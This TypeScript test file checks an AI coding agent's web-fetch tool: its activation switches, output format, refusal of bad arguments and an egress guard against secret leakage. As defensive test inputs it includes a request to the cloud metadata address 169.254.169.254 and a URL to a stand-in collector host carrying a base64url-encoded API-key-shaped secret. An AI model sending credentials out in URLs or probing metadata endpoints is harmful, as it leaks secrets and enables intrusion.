import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { ExtensionAPI, ToolDefinition } from "@mariozechner/pi-coding-agent";
import { describe, expect, it } from "vitest";
import { sha256Hex } from "../../../domain/shared/model/canonical-json.ts";
import { err, ok } from "../../../domain/shared/model/result.ts";
import type { AddressPolicy } from "../../../domain/web/model/address-policy.ts";
import { webFetchError } from "../../../domain/web/model/web-fetch-error.ts";
import type { Clock } from "../../../ports/clock.ts";
import type { PageExtractor } from "../../../ports/page-extractor.ts";
import type { PinnedGetRequest, PinnedHttp, PinnedHttpError, PinnedResponse } from "../../../ports/pinned-http.ts";
import type { Result } from "../../../domain/shared/model/result.ts";
import { installFusionWebFetch, type WebFetchWiring } from "./fusion-web-fetch-extension.ts";
import { buildToolAuditRecord } from "../../../domain/fusion/model/tool-audit-record.ts";
import { buildSecretWindows, serialiseSecretWindows } from "../../../domain/web/model/secret-windows.ts";

const PAGE = "<h1>Title</h1><p>Body text</p>";

class FakeHttp implements PinnedHttp {
  readonly requests: PinnedGetRequest[] = [];
  closed = 0;
  async get(request: PinnedGetRequest): Promise<Result<PinnedResponse, PinnedHttpError>> {
    this.requests.push(request);
    if (request.url.href.endsWith("/missing"))
      return err(webFetchError("http_error", "HTTP status 404", { url: request.url.href, status: 404, hop: 0 }));
    const body = new TextEncoder().encode(PAGE);
    return ok({
      url: request.url.href,
      finalUrl: `${request.url.href}?v=2`,
      status: 200,
      contentType: "text/html; charset=utf-8",
      body,
      hops: [{ url: request.url.href, status: 200, address: "93.184.216.34" }],
    });
  }
  async close(): Promise<void> {
    this.closed += 1;
  }
}

/** Keeps the page's text so the test sees exactly what the tool returns. */
const extractor: PageExtractor = { extract: (request) => ok(`[${request.format}] ${request.text}`) };
let tick = 0;
const clock: Clock = {
  now: () => 0,
  monotonic: () => (tick += 7),
  after: () => ({ cancel() {} }),
  every: () => ({ cancel() {} }),
};

function fakePi() {
  const tools: ToolDefinition[] = [];
  const handlers = new Map<string, ((...args: unknown[]) => unknown)[]>();
  const api = {
    registerTool: (tool: ToolDefinition) => tools.push(tool),
    on: (event: string, handler: (...args: unknown[]) => unknown) =>
      handlers.set(event, [...(handlers.get(event) ?? []), handler]),
  };
  return { api: api as unknown as ExtensionAPI, tools, handlers };
}

function install(env: Record<string, string | undefined>) {
  const pi = fakePi();
  const http = new FakeHttp();
  const policies: AddressPolicy[] = [];
  const warnings: string[] = [];
  const wire = (policy: AddressPolicy): WebFetchWiring => {
    policies.push(policy);
    return { deps: { http, extractor, clock, policy }, close: () => http.close() };
  };
  const registered = installFusionWebFetch(pi.api, env, wire, (line) => warnings.push(line));
  return { ...pi, http, policies, warnings, registered };
}

async function execute(tool: ToolDefinition | undefined, params: unknown) {
  if (tool === undefined) throw new Error("tool not registered");
  return tool.execute("call_1", params as never, undefined, undefined, {} as never);
}

describe("fusion_web_fetch child extension", () => {
  it.each([[undefined], ["0"]])("registers nothing when PI_FUSION_RESEARCH_ENABLED is %s", (value) => {
    const h = install({ PI_FUSION_RESEARCH_ENABLED: value });
    expect([h.registered, h.tools.length, h.handlers.size, h.policies.length]).toEqual([false, 0, 0, 0]);
  });

  it("fails the load on any other value, so a typo cannot silently disable research", () => {
    expect(() => install({ PI_FUSION_RESEARCH_ENABLED: "true" })).toThrow(/must be "1"/);
  });

  it("with research enabled registers the tool with a closed schema under the default policy, and closes the agent at session_shutdown", async () => {
    const h = install({ PI_FUSION_RESEARCH_ENABLED: "1" });
    expect(h.tools.map((t) => t.name)).toEqual(["fusion_web_fetch"]);
    expect(h.policies).toEqual([{ admittedSubnets: [] }]);
    expect(h.warnings).toEqual([]);
    expect((h.tools[0]?.parameters as { additionalProperties?: unknown }).additionalProperties).toBe(false);
    for (const handler of h.handlers.get("session_shutdown") ?? [])
      await handler({ type: "session_shutdown", reason: "quit" }, {});
    expect(h.http.closed).toBe(1);
  });

  it("returns the page JSON as text and sizes, digest and timings as details; markdown by default", async () => {
    const h = install({ PI_FUSION_RESEARCH_ENABLED: "1" });
    const result = await execute(h.tools[0], { url: " https://docs.example/guide " });
    const first = result.content[0];
    const text = first?.type === "text" ? first.text : "";
    const page = JSON.parse(text) as Record<string, unknown>;
    expect(Object.keys(page)).toEqual(["url", "final_url", "status", "content_type", "format", "truncated", "content"]);
    expect(page).toEqual({
      url: "https://docs.example/guide",
      final_url: "https://docs.example/guide?v=2",
      status: 200,
      content_type: "text/html",
      format: "markdown",
      truncated: false,
      content: `[markdown] ${PAGE}`,
    });
    expect(result.details).toMatchObject({
      url: "https://docs.example/guide",
      status: 200,
      response_bytes: PAGE.length,
      content_sha256: sha256Hex(PAGE),
      timeout_ms: 60_000,
      redirects: 0,
      address: "93.184.216.34",
    });
    expect((result.details as { duration_ms: number }).duration_ms).toBeGreaterThanOrEqual(0);
    expect(h.http.requests[0]?.userAgent).toBe("pi-background-tasks fusion_web_fetch/1.0");
  });

  it("text extraction on request; failures throw naming the code; invalid arguments never reach the network", async () => {
    const h = install({ PI_FUSION_RESEARCH_ENABLED: "1" });
    const text = await execute(h.tools[0], { url: "https://docs.example/guide", extract: "text" });
    expect(JSON.stringify(text.content)).toContain("[text] <h1>Title");
    await expect(execute(h.tools[0], { url: "https://docs.example/missing" })).rejects.toThrow(
      /fusion_web_fetch failed \(http_error\).*HTTP 404/,
    );
    await expect(execute(h.tools[0], { url: "http://169.254.169.254/latest/" })).rejects.toThrow(/blocked_address/);
    await expect(execute(h.tools[0], { url: "ftp://docs.example/" })).rejects.toThrow(/unsupported_scheme/);
    await expect(execute(h.tools[0], { url: "https://docs.example/", extract: "html" })).rejects.toThrow(
      /invalid_arguments/,
    );
    expect(() => h.tools[0]?.prepareArguments?.({ url: "https://docs.example/", headers: {} })).toThrow(
      /unknown key 'headers'/,
    );
    expect(h.http.requests.map((r) => r.url.href)).toEqual([
      "https://docs.example/guide",
      "https://docs.example/missing",
    ]);
  });

  it("test seam: admits the listed subnets only with PI_FUSION_WEB_FETCH_TEST_SEAM=1, and says so", () => {
    const h = install({
      PI_FUSION_RESEARCH_ENABLED: "1",
      PI_FUSION_WEB_FETCH_TEST_SEAM: "1",
      PI_FUSION_WEB_FETCH_TEST_ADMIT_CIDR: "127.0.0.0/8, 203.0.113.0/24",
    });
    expect(h.policies[0]?.admittedSubnets.map((c) => `${c.family}/${c.prefix}`)).toEqual(["4/8", "4/24"]);
    expect(h.warnings.join("\n")).toMatch(/TEST SEAM ACTIVE.*127\.0\.0\.0\/8, 203\.0\.113\.0\/24/);
  });

  it.each([
    [
      "the admit list without the switch",
      { PI_FUSION_WEB_FETCH_TEST_ADMIT_CIDR: "127.0.0.0/8" },
      /honoured only with PI_FUSION_WEB_FETCH_TEST_SEAM=1/,
    ],
    [
      "the switch with another value",
      { PI_FUSION_WEB_FETCH_TEST_SEAM: "yes", PI_FUSION_WEB_FETCH_TEST_ADMIT_CIDR: "127.0.0.0/8" },
      /honoured only/,
    ],
    ["the switch without a list", { PI_FUSION_WEB_FETCH_TEST_SEAM: "1" }, /needs PI_FUSION_WEB_FETCH_TEST_ADMIT_CIDR/],
    [
      "a malformed CIDR",
      { PI_FUSION_WEB_FETCH_TEST_SEAM: "1", PI_FUSION_WEB_FETCH_TEST_ADMIT_CIDR: "127.0.0.1/8" },
      /host bits are set/,
    ],
  ])("test seam: refuses %s (the child does not start)", (_what, env, message) => {
    expect(() => install({ PI_FUSION_RESEARCH_ENABLED: "1", ...env })).toThrow(message);
  });

  describe("egress guard", () => {
    const secret = "sk-ant-api03-Zq8xV2mN4pL7wR1tY6uI9oP3aS5dF0gH";
    const windows = serialiseSecretWindows(buildSecretWindows([secret], new Uint8Array(16).fill(9)).windows);
    const path = join(mkdtempSync(join(tmpdir(), "fetch-guard-")), "windows.json");
    writeFileSync(path, windows);
    const guarded = (sha: string) => ({
      PI_FUSION_RESEARCH_ENABLED: "1",
      PI_FUSION_SECRET_WINDOWS_PATH: path,
      PI_FUSION_SECRET_WINDOWS_SHA256: sha,
    });

    it("refuses a URL carrying the credential: the error and its audit record name no part of the URL", async () => {
      const h = install(guarded(sha256Hex(windows)));
      const url = `https://collector.example/c?d=${Buffer.from(secret).toString("base64url")}`;
      const failure = await execute(h.tools[0], { url }).then(
        () => undefined,
        (error: Error) => error.message,
      );
      expect(failure).toMatch(/^fusion_web_fetch failed \(secret_in_url\): .*Nothing was retried\.$/);
      expect(failure).not.toMatch(/collector|https|c\?d=|sk-ant/);
      const record = buildToolAuditRecord(1, {
        toolName: "fusion_web_fetch",
        toolCallId: "call_1",
        arguments: { value: { url } },
        resultContent: [{ type: "text", text: failure }],
        resultDetails: {},
        isError: true,
        durationMs: 1,
      });
      expect(record.rejected_url_sha256).toBe(sha256Hex(url));
      expect(JSON.stringify(record)).not.toMatch(/collector|sk-ant/);
      expect(h.http.requests).toEqual([]);
      expect((await execute(h.tools[0], { url: "https://docs.example/guide" })).content).toHaveLength(1);
    });

    it("refuses every fetch and says so at load when the windows file does not match its digest", async () => {
      const h = install(guarded(sha256Hex("something else")));
      expect(h.warnings.join("\n")).toMatch(/egress guard could not be loaded.*does not match/);
      await expect(execute(h.tools[0], { url: "https://docs.example/guide" })).rejects.toThrow(
        /fusion_web_fetch failed \(egress_guard_unavailable\)/,
      );
      expect(h.http.requests).toEqual([]);
    });
  });
});
